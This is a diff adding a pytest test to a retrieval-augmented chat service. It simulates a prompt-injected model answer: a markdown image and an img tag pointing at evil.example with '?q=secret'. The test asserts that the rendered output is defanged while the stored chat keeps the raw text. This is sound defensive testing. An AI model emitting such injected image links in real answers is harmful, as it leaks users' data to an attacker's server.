@@ -2,12 +2,15 @@
 
 import asyncio
 import json
+from collections.abc import AsyncGenerator, Sequence
 from pathlib import Path
 from typing import Any
 
 import httpx
 import pytest
 
+from luma_rag.chat.answerer import HistoryMessage, RetrievedPassage
+from luma_rag.chat.service import ChatService
 from luma_rag.errors import LLMError
 from luma_rag.runtime import Runtime
 from tests import factories
@@ -214,6 +217,38 @@ async def test_document_in_two_namespaces_is_cited_from_the_requested_one(api: A
     assert cited
     assert cited <= of[open_one] - of[hidden]
     assert (await bob.post(URL, json=asking(hidden))).status_code == 404
+
+
+class InjectedAnswerer:
+    """Answers as an injected document told it to, a character at a time."""
+
+    name = "injected"
+    TEXT = "See ![x](https://evil.example/?q=secret) and <img src='https://evil.example/'> [1]!"
+
+    async def answer(
+        self, question: str, passages: Sequence[RetrievedPassage], history: Sequence[HistoryMessage]
+    ) -> AsyncGenerator[str]:
+        for character in self.TEXT:
+            yield character
+
+    async def aclose(self) -> None:
+        """No resources to release."""
+
+
+async def test_answers_have_no_images(runtime: Runtime, tmp_path: Path) -> None:
+    chats = ChatService(runtime.sessions, runtime.retriever, InjectedAnswerer(), 3)
+    async with serving(msgspec.structs.replace(runtime, chats=chats)) as url, Api(url, runtime) as api:
+        alice = await api.user("alice")
+        namespace = await with_handbook(api, alice, tmp_path)
+        answer = (await alice.post(URL, json=asking(namespace))).json()["choices"][0]["message"]
+        shown = "See ! [x](https://evil.example/?q=secret) and < img src='https://evil.example/'> [1]!"
+        assert answer["content"] == shown
+        received = await chunks(alice, asking(namespace, stream=True))
+        deltas = [piece["choices"][0]["delta"] for piece in received[:-1] if piece["choices"]]
+        assert "".join(delta.get("content") or "" for delta in deltas) == shown
+        # The chat keeps what the model wrote; the page makes no images of it.
+        stored = await alice.get(f"/api/chats/{answer['luma']['chat_id']}/messages")
+        assert stored.json()["items"][-1]["content"] == InjectedAnswerer.TEXT
 
 
 async def test_llm_failure_is_reported_in_both_formats(
